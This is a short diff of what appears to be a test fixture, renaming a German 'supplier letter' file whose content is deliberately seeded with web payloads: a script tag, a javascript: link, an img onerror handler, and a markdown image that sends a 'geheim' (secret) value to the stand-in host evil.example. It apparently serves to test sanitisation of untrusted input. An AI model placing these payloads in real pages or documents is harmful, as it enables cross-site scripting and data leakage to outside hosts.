@@ -58,7 +58,7 @@ The project noticed the change of the model version on 20 January because the ad
 - Agree on pinned model versions for at least six months before signing the contract.
 - Run a regression test every night and raise an alarm when the refusal rate of the model changes.
 """,
-    "fremd/notes/boese.md": """# Lieferantenbrief <script>document.title='verletzt'</script>
+    "fremd/notes/boese.txt": """Lieferantenbrief <script>document.title='verletzt'</script>
 
 Der Lieferant Grauwacke schreibt ![Logo](http://evil.example/?q=geheim) und [Angebot](javascript:alert(1)).
 Der Lieferant Grauwacke verlangt <img src="http://evil.example/x.png" onerror="document.title='verletzt'"> 4.000 EUR.
